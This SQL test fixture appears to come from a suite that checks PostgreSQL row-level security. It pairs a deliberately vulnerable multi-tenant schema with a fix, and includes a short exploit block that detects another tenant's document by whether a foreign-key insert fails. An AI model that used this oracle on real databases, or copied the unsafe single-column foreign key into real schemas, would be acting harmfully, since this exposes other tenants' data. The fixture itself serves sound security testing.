-- What: A child refers to its parent by id alone; the foreign key is checked without the policies.
-- Class: foreign_key_oracle
-- Object: public.attachments
-- Exploit: A row of tenant A may refer to tenant B's document: whether it exists is known by the error or its absence.
-- @schema
create table documents (id int primary key, tenant_id uuid not null, body text not null);
create table attachments (id bigint generated always as identity primary key, tenant_id uuid not null, document_id int not null
  references documents);
alter table documents enable row level security;
alter table documents force row level security;
alter table attachments enable row level security;
alter table attachments force row level security;
create policy tenant on documents using (tenant_id::text = current_setting('app.tenant_id', true));
create policy tenant on attachments using (tenant_id::text = current_setting('app.tenant_id', true));
grant select, insert, update, delete on documents, attachments to app_user;
-- @rows
insert into documents values (1, :'A', 'A-row'), (2, :'B', 'B-row');
-- @fix
alter table documents add unique (tenant_id, id);
alter table attachments drop constraint attachments_document_id_fkey;
alter table attachments add foreign key (tenant_id, document_id) references documents (tenant_id, id);
-- @control
select from documents where tenant_id = :'A';
-- @exploit
do $$ begin
  insert into attachments (tenant_id, document_id) values ('aaaaaaaa-0000-4000-8000-000000000001', 2);
  perform set_config('loot.text', 'exists', false);
exception when foreign_key_violation then null;
end $$;
select 1 where current_setting('loot.text', true) = 'exists';
